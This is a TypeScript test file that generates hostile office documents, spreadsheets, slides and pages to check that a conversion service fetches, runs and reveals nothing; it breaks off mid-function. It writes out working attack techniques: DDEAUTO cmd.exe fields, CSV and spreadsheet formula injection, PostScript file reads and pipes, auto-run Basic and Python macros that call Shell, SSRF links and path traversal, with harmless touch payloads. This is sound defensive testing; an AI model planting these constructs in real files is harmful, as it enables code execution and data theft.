/** Documents, sheets, slides, books and markup made to reach out, to run, to exhaust, or to stay shut. */
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { constants, crc32, deflateRawSync } from 'node:zlib';
import { expect } from 'vitest';
import { compoundOf, latin1, noise, zipOf } from '../../kit/catalog/bytes.ts';
import { LOCKED_WORDS, lockedDocuments, PASSWORD } from '../../kit/catalog/locked.ts';
import { fixtures as documents } from '../../kit/fixtures/documents/documents.ts';
import { emf, wmf } from '../../kit/fixtures/pictures/drawings.ts';
import { fixtures as images } from '../../kit/fixtures/pictures/images.ts';
import { escapeXml, XML } from '../../kit/fixtures/zip.ts';
import { unzip } from '../../kit/judges/documents/text.ts';
import type { Answer } from '../../kit/roles/service.ts';
import { type Case, type Ending, type Ground, type Mutated, proveHarmless, proveMutationsHarmless, type Trap } from './hostile.ts';

type Content = string | Buffer;
interface Packed {
  readonly data: Buffer;
  readonly size: number;
  readonly crc: number;
  /** What the headers say, where that is not the truth. */
  readonly claims?: number;
}
type Deps = readonly (readonly [name: string, content: Content | Packed])[];

/** A deflated ZIP whose names and sizes may be anything. */
function zip(deps: Deps): Buffer {
  const locals: Buffer[] = [];
  const directory: Buffer[] = [];
  let at = 0;
  for (const [name, content] of deps) {
    const plain = typeof content === 'string' || Buffer.isBuffer(content) ? Buffer.from(content as string) : undefined;
    const stored = name === 'mimetype';
    const packed =
      plain === undefined ? (content as Packed) : { data: stored ? plain : deflateRawSync(plain), size: plain.length, crc: crc32(plain) };
    const bytes = latin1(name);
    const facts = Buffer.alloc(26);
    facts.writeUInt16LE(20, 0);
    facts.writeUInt16LE(stored ? 0 : 8, 4);
    facts.writeUInt32LE(packed.crc, 10);
    facts.writeUInt32LE(packed.data.length, 14);
    facts.writeUInt32LE('claims' in packed && packed.claims !== undefined ? packed.claims : packed.size, 18);
    facts.writeUInt16LE(bytes.length, 22);
    const offset = Buffer.alloc(14);
    offset.writeUInt32LE(at, 10);
    directory.push(latin1('PK\x01\x02\x14\0'), facts, offset, bytes);
    const local = Buffer.concat([latin1('PK\x03\x04'), facts, bytes, packed.data]);
    locals.push(local);
    at += local.length;
  }
  const [body, index, end] = [Buffer.concat(locals), Buffer.concat(directory), Buffer.alloc(22)];
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(deps.length & 0xffff, 8);
  end.writeUInt16LE(deps.length & 0xffff, 10);
  end.writeUInt32LE(index.length, 12);
  end.writeUInt32LE(body.length, 16);
  return Buffer.concat([body, index, end]);
}

/** So many MB of `filling` between two texts, for the price of one: blocks of a deflate stream repeat as they are. */
function swollen(before: string, filling: string, after: string, megabytes: number, claims?: number): Packed {
  const piece = Buffer.from(filling.repeat(Math.ceil((1 << 20) / filling.length)));
  const block = (bytes: Buffer) => deflateRawSync(bytes, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const packedPiece = block(piece);
  let crc = crc32(before);
  for (let count = 0; count < megabytes; count++) crc = crc32(piece, crc);
  crc = crc32(after, crc);
  const data = Buffer.concat([block(Buffer.from(before)), ...Array.from({ length: megabytes }, () => packedPiece), deflateRawSync(after)]);
  return { data, size: before.length + megabytes * piece.length + after.length, crc, ...(claims !== undefined && { claims }) };
}

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';
const TYPE = 'application/vnd.openxmlformats-officedocument';
const WORD =
  'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"';

type Relation = readonly [id: string, type: string, target: string, external?: boolean];
const relations = (...rows: readonly Relation[]): string =>
  `${XML}<Relationships xmlns="${PACKAGE}/relationships">${rows
    .map(
      ([id, type, target, external = false]) =>
        `<Relationship Id="${id}" Type="${type.includes('//') ? type : `${OFFICE}/${type}`}" Target="${escapeXml(target)}"${external ? ' TargetMode="External"' : ''}/>`,
    )
    .join('')}</Relationships>`;
const types = (rows: Readonly<Record<string, string>>): string =>
  `${XML}<Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Default Extension="eps" ContentType="image/eps"/><Default Extension="svg" ContentType="image/svg+xml"/><Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/><Default Extension="htm" ContentType="text/html"/>${Object.entries(
    rows,
  )
    .map(([part, type]) => `<Override PartName="/${part}" ContentType="${type.includes('/') ? type : `${TYPE}.${type}+xml`}"/>`)
    .join('')}</Types>`;

interface Package {
  readonly relations?: readonly Relation[];
  /** Between the XML declaration and the root. */
  readonly doctype?: string;
  readonly parts?: Deps;
  readonly types?: Readonly<Record<string, string>>;
  /** Replaces the main part. */
  readonly main?: Content | Packed;
}

const run = (text: string): string => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;
const SECTION = '<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr>';
const wordStart = (doctype = '') => `${XML}${doctype}<w:document ${WORD} xmlns:r="${OFFICE}"><w:body>`;
const WORD_END = `${SECTION}</w:body></w:document>`;

const docx = (body: string, { relations: more = [], doctype = '', parts = [], types: overrides = {}, main }: Package = {}): Buffer =>
  zip([
    ['[Content_Types].xml', types({ 'word/document.xml': 'wordprocessingml.document.main', ...overrides })],
    ['_rels/.rels', relations(['rId1', 'officeDocument', 'word/document.xml'])],
    ['word/_rels/document.xml.rels', relations(...more)],
    ['word/document.xml', main ?? wordStart(doctype) + body + WORD_END],
    ...parts,
  ]);

const SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
const cell = (at: string, formula: string): string => `<c r="${at}"><f>${escapeXml(formula)}</f></c>`;
const xlsx = (
  rows: string,
  { relations: more = [], doctype = '', parts = [], types: overrides = {}, main, book = '' }: Package & { book?: string } = {},
): Buffer =>
  zip([
    [
      '[Content_Types].xml',
      types({ 'xl/workbook.xml': 'spreadsheetml.sheet.main', 'xl/worksheets/sheet1.xml': 'spreadsheetml.worksheet', ...overrides }),
    ],
    ['_rels/.rels', relations(['rId1', 'officeDocument', 'xl/workbook.xml'])],
    ['xl/_rels/workbook.xml.rels', relations(['rId1', 'worksheet', 'worksheets/sheet1.xml'], ...more)],
    [
      'xl/workbook.xml',
      `${XML}<workbook ${SHEET} xmlns:r="${OFFICE}"><sheets><sheet name="One" sheetId="1" r:id="rId1"/></sheets>${book}</workbook>`,
    ],
    ['xl/worksheets/sheet1.xml', main ?? `${XML}${doctype}<worksheet ${SHEET}><sheetData>${rows}</sheetData></worksheet>`],
    ...parts,
  ]);

type Kind = 'text' | 'spreadsheet' | 'presentation';
const SPACES = ['office', 'text', 'table', 'style', 'presentation', 'script', 'form']
  .map((name) => `xmlns:${name}="urn:oasis:names:tc:opendocument:xmlns:${name}:1.0"`)
  .concat(
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"',
    'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0"',
    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"',
    'xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2"',
    'xmlns:xlink="http://www.w3.org/1999/xlink"',
    'xmlns:ooo="http://openoffice.org/2004/office"',
    'xmlns:dom="http://www.w3.org/2001/xml-events"',
  )
  .join(' ');
const media = (kind: Kind): string => `application/vnd.oasis.opendocument.${kind}`;

interface Open {
  readonly doctype?: string;
  /** Scripts and styles before the body. */
  readonly before?: string;
  readonly parts?: Deps;
  readonly main?: Packed;
}
const openStart = (kind: Kind, { doctype = '', before = '' }: Open = {}, root = 'document-content') =>
  `${XML}${doctype}<office:${root} ${SPACES} office:version="1.3" ${root === 'document' ? `office:mimetype="${media(kind)}"` : ''}>${before}<office:body><office:${kind}>`;
const openEnd = (kind: Kind, root = 'document-content') => `</office:${kind}></office:body></office:${root}>`;
const flat = (kind: Kind, body: string, open: Open = {}): string => openStart(kind, open, 'document') + body + openEnd(kind, 'document');
const packed = (kind: Kind, body: string, open: Open = {}): Buffer => {
  const entry = (name: string, type: string) => `<manifest:file-entry manifest:full-path="${name}" manifest:media-type="${type}"/>`;
  return zip([
    ['mimetype', media(kind)],
    [
      'META-INF/manifest.xml',
      `${XML}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">${entry('/', media(kind))}${entry('content.xml', 'text/xml')}${entry('styles.xml', 'text/xml')}${(open.parts ?? []).map(([name]) => entry(escapeXml(name), '')).join('')}</manifest:manifest>`,
    ],
    [
      'styles.xml',
      `${XML}<office:document-styles ${SPACES} office:version="1.3"><office:styles/><office:automatic-styles/><office:master-styles/></office:document-styles>`,
    ],
    ['content.xml', open.main ?? openStart(kind, open) + body + openEnd(kind)],
    ...(open.parts ?? []),
  ]);
};

const epub = (chapter: Content | Packed, more: Deps = [], opf = '', doctype = ''): Buffer =>
  zip([
    ['mimetype', 'application/epub+zip'],
    [
      'META-INF/container.xml',
      `${XML}<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>`,
    ],
    [
      'book.opf',
      `${XML}${doctype}<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">x</dc:identifier><dc:title>Book</dc:title><dc:language>en</dc:language></metadata><manifest><item id="one" href="one.xhtml" media-type="application/xhtml+xml"/>${opf}</manifest><spine><itemref idref="one"/></spine></package>`,
    ],
    ['one.xhtml', chapter],
    ...more,
  ]);
const xhtml = (body: string, doctype = ''): string =>
  `<?xml version="1.0"?>${doctype}<html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head><body><h1>kestrel</h1>${body}</body></html>`;

const HARMLESS = ['neutral', 'fail'] as const;
const LOCKED_WORD = new RegExp(LOCKED_WORDS);

/** One file to several formats. */
const toEach = (targets: readonly string[], one: Omit<Case, 'to' | 'ends'> & { readonly ends?: Case['ends'] }): Case[] =>
  targets.map((to) => ({ ends: HARMLESS, ...one, to }));

/** The ways to name what lies outside. */
const places = ({ url, port, text, picture, neighbours }: Trap): readonly string[] => [
  `${url}/a.png`,
  `file://${picture}`,
  `file://${text}`,
  picture,
  `../../../../../../../../../..${picture}`,
  `//127.0.0.1:${port}/share/a.png`,
  `smb://127.0.0.1:${port}/share/a.png`,
  `\\\\127.0.0.1@${port}\\share\\a.png`,
  `ftp://127.0.0.1:${port}/a.png`,
  `vnd.sun.star.webdav://127.0.0.1:${port}/a.png`,
  ...neighbours.slice(0, 4).map((path) => `file://${path}`),
];

const each = (trap: Trap, of: (place: string, index: number) => string): string =>
  places(trap)
    .map((place, index) => of(escapeXml(place), index))
    .join('');

const drawing = (attribute: string): string =>
  `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip ${attribute}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
const field = (code: string): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve"> ${escapeXml(code)} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

/** What fields of Word and of RTF can ask for. */
const fieldCodes = ({ url, text, picture }: Trap): readonly string[] => [
  `INCLUDEPICTURE "${url}/p.png" \\d`,
  `INCLUDEPICTURE "file://${picture}" \\d`,
  `INCLUDETEXT "${text}"`,
  `INCLUDETEXT "${url}/t.docx"`,
  `INCLUDETEXT "file://${text}" \\c plain`,
  `DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k touch /tmp/filemill-was-here"`,
  `DDE soffice "${text}" all`,
  `LINK Excel.Sheet.8 "${url}/l.xls" "A1" \\a`,
  `IMPORT "${picture}"`,
  `RD "${text}"`,
  `DATABASE \\d "${text}" \\c "x"`,
];

/** A result must not tell where the service keeps its files, save for what the document itself named. */
const tellsNoPlace = (output: Buffer, _answer: unknown, { neighbours }: Trap): void => {
  const named = neighbours.reduce((text, path) => text.replaceAll(path, ''), output.toString('latin1').replaceAll('\0', ''));
  for (const part of ['slot-', '/job/', 'input.', 'filemill-test-']) expect(named.includes(part), part).toBe(false);
};

const WORDS: readonly Case[] = [
  ...toEach(['pdf', 'odt', 'html', 'md'], {
    name: 'a DOCX whose pictures lie elsewhere',
    file: (trap) =>
      docx(
        run('kestrel') +
          places(trap)
            .map((_, i) => drawing(`r:link="rId${i}"`))
            .join('') +
          places(trap)
            .map((_, i) => drawing(`r:embed="rId${i}"`))
            .join(''),
        {
          relations: places(trap).map((place, i): Relation => [`rId${i}`, 'image', place, true]),
        },
      ),
    as: 'a.docx',
  }),
  ...toEach(['pdf', 'md'], {
    name: 'a DOCX whose inner relations climb out',
    file: (trap) =>
      docx(
        run('kestrel') +
          places(trap)
            .map((_, i) => drawing(`r:embed="rId${i}"`))
            .join(''),
        {
          relations: places(trap).map((place, i): Relation => [`rId${i}`, 'image', place]),
        },
      ),
    as: 'a.docx',
  }),
  ...toEach(['pdf', 'txt', 'html'], {
    name: 'a DOCX whose fields reach out',
    file: (trap) => docx(run('kestrel') + fieldCodes(trap).map(field).join('') + field('FILENAME \\p')),
    as: 'a.docx',
    judge: tellsNoPlace,
  }),
  ...toEach(['pdf'], {
    name: 'a DOCX with templates, frames, sub-documents, mail merges and objects elsewhere',
    file: (trap) => {
      const rows = (type: string): Relation[] => places(trap).map((place, i) => [`${type}${i}`, type, place, true]);
      const ids = (type: string, of: (id: string) => string) =>
        places(trap)
          .map((_, i) => of(`${type}${i}`))
          .join('');
      return docx(
        run('kestrel') +
          ids('subDocument', (id) => `<w:subDoc r:id="${id}"/>`) +
          ids('aFChunk', (id) => `<w:altChunk r:id="${id}"/>`) +
          '<w:altChunk r:id="inner"/>' +
          ids(
            'oleObject',
            (id) =>
              `<w:p><w:r><w:object><v:shape id="s${id}" style="width:90pt;height:90pt"><v:imagedata r:id="${id}" o:href="${escapeXml(trap.url)}/v"/></v:shape><o:OLEObject Type="Link" ProgID="Excel.Sheet.8" ShapeID="s${id}" r:id="${id}" UpdateMode="Always"/></w:object></w:r></w:p>`,
          ),
        {
          relations: [
            ...rows('subDocument'),
            ...rows('aFChunk'),
            ...rows('oleObject'),
            ['set', 'settings', 'settings.xml'],
            ['web', 'webSettings', 'webSettings.xml'],
            ['inner', 'aFChunk', 'inner.htm'],
          ],
          types: { 'word/settings.xml': 'wordprocessingml.settings', 'word/webSettings.xml': 'wordprocessingml.webSettings' },
          parts: [
            [
              'word/settings.xml',
              `${XML}<w:settings ${WORD} xmlns:r="${OFFICE}">${ids('attachedTemplate', (id) => `<w:attachedTemplate r:id="${id}"/>`)}<w:mailMerge><w:dataSource r:id="mailMergeSource0"/></w:mailMerge></w:settings>`,
            ],
            ['word/_rels/settings.xml.rels', relations(...rows('attachedTemplate'), ...rows('mailMergeSource'))],
            [
              'word/webSettings.xml',
              `${XML}<w:webSettings ${WORD} xmlns:r="${OFFICE}"><w:frameset><w:frame><w:sourceFileName r:id="frame0"/></w:frame></w:frameset></w:webSettings>`,
            ],
            ['word/_rels/webSettings.xml.rels', relations(...rows('frame'))],
            [
              'word/inner.htm',
              `<html><body>inner ${each(trap, (place) => `<img src="${place}"><iframe src="${place}"></iframe>`)}</body></html>`,
            ],
          ],
        },
      );
    },
    as: 'a.docm',
  }),
  ...toEach(['pdf', 'png'], {
    name: 'a DOCX with a PostScript picture that reads files',
    file: ({ text }) =>
      docx(run('kestrel') + drawing('r:embed="e"'), {
        relations: [['e', 'image', 'media/a.eps']],
        parts: [
          [
            'word/media/a.eps',
            `%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 90 90\n(${text}) (r) file 99 string readline pop show (%pipe%touch /tmp/filemill-was-here) (w) file pop showpage\n%%EOF\n`,
          ],
        ],
      }),
    as: 'a.docx',
    ocr: true,
  }),
  ...toEach(['pdf'], {
    name: 'a DOCX with a drawing that reaches out',
    file: (trap) =>
      docx(run('kestrel') + drawing('r:embed="e"'), {
        relations: [['e', 'image', 'media/a.svg']],
        parts: [
          [
            'word/media/a.svg',
            `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90">${each(trap, (place) => `<image href="${place}" xlink:href="${place}" width="90" height="90"/>`)}</svg>`,
          ],
        ],
      }),
    as: 'a.docx',
  }),
  ...toEach(['pdf', 'docx', 'html', 'txt'], {
    name: 'an RTF whose fields, templates and objects reach out',
    file: (trap) =>
      `{\\rtf1\\ansi{\\*\\template ${trap.url}/t.dot}{\\*\\template file://${trap.text}}kestrel\\par ${fieldCodes(trap)
        .map((code) => `{\\field\\flddirty{\\*\\fldinst ${code.replaceAll('\\', '\\\\')}}{\\fldrslt shown}}\\par `)
        .join(
          '',
        )}{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000002000000090000004f4c45324c696e6b00${Buffer.from(trap.url).toString('hex')}}}{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 01050000020000000800000050616b61676500}}{\\field{\\*\\fldinst FILENAME \\\\p}{\\fldrslt }}}`,
    as: 'a.rtf',
    judge: tellsNoPlace,
  }),
];

const openReach = (trap: Trap): string => {
  const link = (place: string) => `xlink:href="${place}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"`;
  const frame = (inner: string) => `<text:p><draw:frame svg:width="3cm" svg:height="3cm">${inner}</draw:frame></text:p>`;
  return each(
    trap,
    (place, index) =>
      frame(`<draw:image ${link(place)}/>`) +
      frame(`<draw:object ${link(place)}/>`) +
      frame(`<draw:object-ole ${link(place)}/>`) +
      frame(`<draw:plugin ${link(place)} draw:mime-type="application/vnd.sun.star.media"/>`) +
      frame(`<draw:floating-frame ${link(place)}/>`) +
      frame(`<draw:applet ${link(place)} draw:code="x"/>`) +
      `<text:section text:name="s${index}"><text:section-source ${link(place)}/><text:p>instead</text:p></text:section>` +
      `<text:section text:name="d${index}"><office:dde-source office:dde-application="soffice" office:dde-topic="${place}" office:dde-item="all" office:automatic-update="true"/><text:p>instead</text:p></text:section>` +
      `<text:p><text:a xlink:href="${place}" xlink:type="simple">link</text:a></text:p>`,
  );
};
const openStyles = (trap: Trap): string =>
  `<office:automatic-styles>${each(trap, (place, index) => `<style:style style:name="P${index}" style:family="paragraph"><style:paragraph-properties><style:background-image xlink:href="${place}" xlink:type="simple" xlink:actuate="onLoad"/></style:paragraph-properties></style:style><text:list-style style:name="L${index}"><text:list-level-style-image text:level="1" xlink:href="${place}" xlink:type="simple" xlink:actuate="onLoad"/></text:list-style>`)}</office:automatic-styles>`;
const styled = (trap: Trap): string =>
  each(
    trap,
    (_, index) =>
      `<text:p text:style-name="P${index}">x</text:p><text:list text:style-name="L${index}"><text:list-item><text:p>y</text:p></text:list-item></text:list>`,
  );
/** Fields that would tell the file's own place. */
const OWN_PLACE =
  '<text:p><text:file-name text:display="full">x</text:file-name> <text:file-name text:display="path">x</text:file-name> <text:template-name text:display="full">x</text:template-name></text:p>';

const OPEN: readonly Case[] = [
  ...toEach(['pdf', 'docx', 'html', 'md'], {
    name: 'an ODT that links everything that can be linked',
    file: (trap) => packed('text', `<text:p>kestrel</text:p>${openReach(trap)}${styled(trap)}`, { before: openStyles(trap) }),
    as: 'a.odt',
  }),
  ...toEach(['pdf', 'docx', 'odt'], {
    name: 'a flat ODT that links everything that can be linked',
    file: (trap) => flat('text', `<text:p>kestrel</text:p>${openReach(trap)}${styled(trap)}`, { before: openStyles(trap) }),
    as: 'a.fodt',
  }),
  ...toEach(['pdf', 'txt', 'html'], {
    name: 'an ODT that asks for its own place',
    file: flat('text', OWN_PLACE),
    as: 'a.fodt',
    judge: tellsNoPlace,
  }),
  ...toEach(['pdf', 'csv', 'xlsx', 'html'], {
    name: 'a sheet whose cells reach out',
    file: (trap) =>
      flat(
        'spreadsheet',
        `<table:table table:name="One">${[
          ...places(trap).flatMap((place) => [
            `of:=WEBSERVICE("${place}")`,
            `of:=['${place}'#$Sheet1.A1]`,
            `of:=INDIRECT("'${place}'#$Sheet1.A1")`,
            `of:=DDE("soffice";"${place}";"A1")`,
            `of:=HYPERLINK("${place}";"x")`,
          ]),
          'of:=CELL("filename")',
          'of:=INFO("directory")',
          'of:=DDE("cmd";"/c touch /tmp/filemill-was-here";"x")',
        ]
          .map(
            (formula) =>
              `<table:table-row><table:table-cell table:formula="${escapeXml(formula)}" office:value-type="string"/></table:table-row>`,
          )
          .join(
            '',
          )}</table:table>${each(trap, (place, index) => `<table:table table:name="L${index}"><table:table-source table:mode="copy-all" xlink:href="${place}" xlink:type="simple" table:table-name="x" table:refresh-delay="PT1S"/><table:table-row><table:table-cell><table:cell-range-source table:name="all" xlink:href="${place}" xlink:type="simple" table:last-column-spanned="3" table:last-row-spanned="3"/></table:table-cell></table:table-row></table:table>`)}<table:dde-links>${each(trap, (place) => `<table:dde-link><office:dde-source office:dde-application="soffice" office:dde-topic="${place}" office:dde-item="A1" office:automatic-update="true"/></table:dde-link>`)}</table:dde-links>`,
      ),
    as: 'a.fods',
    judge: tellsNoPlace,
  }),
  ...toEach(['pdf', 'csv', 'ods'], {
    name: 'a workbook whose cells reach out',
    file: (trap) =>
      xlsx(
        `<row r="1">${cell('A1', `_xlfn.WEBSERVICE("${trap.url}/w")`)}${cell('B1', `_xlfn.WEBSERVICE("file://${trap.text}")`)}${cell('C1', "cmd|'/C touch /tmp/filemill-was-here'!A0")}${cell('D1', '[1]Sheet1!A1')}${cell('E1', `'file://${trap.text}'#$Sheet1.A1`)}${cell('F1', 'CELL("filename")')}${cell('G1', `HYPERLINK("${trap.url}/h")`)}${cell('H1', `INDIRECT("'[${trap.text}]Sheet1'!A1")`)}${cell('I1', `_xlfn.IMAGE("${trap.url}/i.png")`)}</row>`,
        {
          relations: [
            ['rId9', 'externalLink', 'externalLinks/externalLink1.xml'],
            ['rId8', 'connections', 'connections.xml'],
          ],
          book: '<externalReferences><externalReference r:id="rId9"/></externalReferences>',
          types: { 'xl/externalLinks/externalLink1.xml': 'spreadsheetml.externalLink', 'xl/connections.xml': 'spreadsheetml.connections' },
          parts: [
            [
              'xl/externalLinks/externalLink1.xml',
              `${XML}<externalLink ${SHEET}><externalBook xmlns:r="${OFFICE}" r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>`,
            ],
            ['xl/externalLinks/_rels/externalLink1.xml.rels', relations(['rId1', 'externalLinkPath', `file://${trap.text}`, true])],
            [
              'xl/connections.xml',
              `${XML}<connections ${SHEET}><connection id="1" name="c" type="4" refreshOnLoad="1"><webPr url="${trap.url}/q" sourceData="1"/></connection></connections>`,
            ],
          ],
        },
      ),
    as: 'a.xlsx',
    judge: tellsNoPlace,
  }),
  ...toEach(['pdf', 'xlsx', 'ods', 'html'], {
    name: 'a CSV whose cells are formulas',
    file: ({ url, text }) =>
      `a,b,c\n"=WEBSERVICE(""${url}/w"")",=1+1,"='file://${text}'#$Sheet1.A1"\n"=CELL(""filename"")","=DDE(""soffice"";""${text}"";""A1"")","=cmd|'/C touch /tmp/filemill-was-here'!A0"\n`,
    as: 'a.csv',
    ends: 'neutral',
    judge: tellsNoPlace,
  }),
  ...toEach(['pdf', 'pptx', 'odp'], {
    name: 'slides that link everything that can be linked',
    file: (trap) =>
      flat(
        'presentation',
        `<draw:page draw:name="one" draw:master-page-name="D">${each(trap, (place) => `<draw:frame svg:x="1cm" svg:y="1cm" svg:width="9cm" svg:height="9cm"><draw:image xlink:href="${place}" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame><draw:frame svg:x="1cm" svg:y="1cm" svg:width="9cm" svg:height="9cm"><draw:plugin xlink:href="${place}" xlink:type="simple" draw:mime-type="application/vnd.sun.star.media"/></draw:frame><draw:custom-shape svg:x="2cm" svg:y="2cm" svg:width="2cm" svg:height="2cm"><office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="sound"><presentation:sound xlink:href="${place}" xlink:type="simple"/></presentation:event-listener></office:event-listeners></draw:custom-shape>`)}<draw:frame svg:x="1cm" svg:y="1cm" svg:width="9cm" svg:height="9cm"><draw:text-box>${OWN_PLACE}</draw:text-box></draw:frame></draw:page>`,
        {
          before:
            '<office:automatic-styles><style:page-layout style:name="P"><style:page-layout-properties fo:page-width="28cm" fo:page-height="21cm"/></style:page-layout></office:automatic-styles><office:master-styles><style:master-page style:name="D" style:page-layout-name="P"/></office:master-styles>',
        },
      ),
    as: 'a.fodp',
    judge: tellsNoPlace,
  }),
];

/** A Basic macro of the document's own, started when it opens; it would write a word into the document and a file beside. */
const BASIC = (trap: Trap) =>
  `Sub Main\nThisComponent.Text.String = "MACRO" &amp; "RAN"\nShell("/usr/bin/touch", 1, "/tmp/filemill-was-here ${trap.folder}/basic")\nEnd Sub`;
const listeners = (hrefs: readonly string[]): string =>
  `<office:event-listeners>${hrefs.flatMap((href) => ['dom:load', 'office:load-finished', 'office:view-created', 'office:layout-finished', 'office:print', 'office:prepare-unload', 'office:new'].map((event) => `<script:event-listener script:language="ooo:script" script:event-name="${event}" xlink:href="${escapeXml(href)}" xlink:type="simple"/>`)).join('')}</office:event-listeners>`;
const STARTS = [
  'vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=document',
  'vnd.sun.star.script:LibreLogo|LibreLogo.py$run?language=Python&location=share',
  'vnd.sun.star.script:p.py$main?language=Python&location=document',
  'macro:///Standard.Module1.Main()',
  'macro:///Tools.Debug.Main()',
  '.uno:Quit',
  'service:com.sun.star.system.SystemShellExecute?touch',
];
const ranNothing = (output: Buffer): void => {
  expect(output.includes('MACRORAN')).toBe(false);
};

const MACROS: readonly Case[] = [
  ...toEach(['txt', 'pdf', 'html'], {
    name: 'a flat ODT whose macros start when it opens',
    file: (trap) =>
      flat('text', '<text:p>kestrel</text:p>', {
        before: `<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="Module1"><ooo:source-code>${BASIC(trap)}</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script>${listeners(STARTS)}</office:scripts>`,
      }),
    as: 'a.fodt',
    ends: 'neutral',
    judge: ranNothing,
  }),
  ...toEach(['txt', 'pdf'], {
    name: 'an ODT whose macros start when it opens',
    file: (trap) =>
      packed('text', '<text:p>kestrel</text:p>', {
        before: `<office:scripts>${listeners(STARTS)}</office:scripts>`,
        parts: [
          [
            'Basic/script-lc.xml',
            `${XML}<library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>`,
          ],
          [
            'Basic/Standard/script-lb.xml',
            `${XML}<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>`,
          ],
          [
            'Basic/Standard/Module1.xml',
            `${XML}<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">${BASIC(trap)}</script:module>`,
          ],
          [
            'Scripts/python/p.py',
            `import os\nos.system("touch /tmp/filemill-was-here ${trap.folder}/python")\ndef main(*_):\n  XSCRIPTCONTEXT.getDocument().Text.String = "MACRO" + "RAN"\n`,
          ],
        ],
      }),
    as: 'a.odt',
    ends: 'neutral',
    judge: ranNothing,
  }),
  ...toEach(['pdf'], {
    name: 'a DOCM and its project of macros',
    file: docx(run('kestrel') + field('MACROBUTTON AutoOpen x'), {
      relations: [['v', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin']],
      types: {
        'word/document.xml': 'application/vnd.ms-word.document.macroEnabled.main+xml',
        'word/vbaProject.bin': 'application/vnd.ms-office.vbaProject',
      },
      parts: [['word/vbaProject.bin', compoundOf(['PROJECT', 'PROJECTwm'], ['dir', '_VBA_PROJECT', 'ThisDocument'])]],
    }),
    as: 'a.docm',
  }),
  ...toEach(['pdf', 'odt', 'txt'], {
    name: 'a page with scripts of LibreOffice',
    file: `<html><head><script language="StarBasic">Sub Main\nThisComponent.Text.String = "MACRO" & "RAN"\nEnd Sub</script></head><body onload="Standard.Module1.Main" sdonload="macro:///Standard.Module1.Main()"><p>kestrel</p><sdfield type="filename" format="full">x</sdfield><script src="file:///tmp/x.js"></script></body></html>`,
    as: 'a.html',
    ends: 'neutral',
    judge: ranNothing,
  }),
];

/** What a page can name, one of each. */
const pageReach = (trap: Trap): string =>
  each(
    trap,
    (place) =>
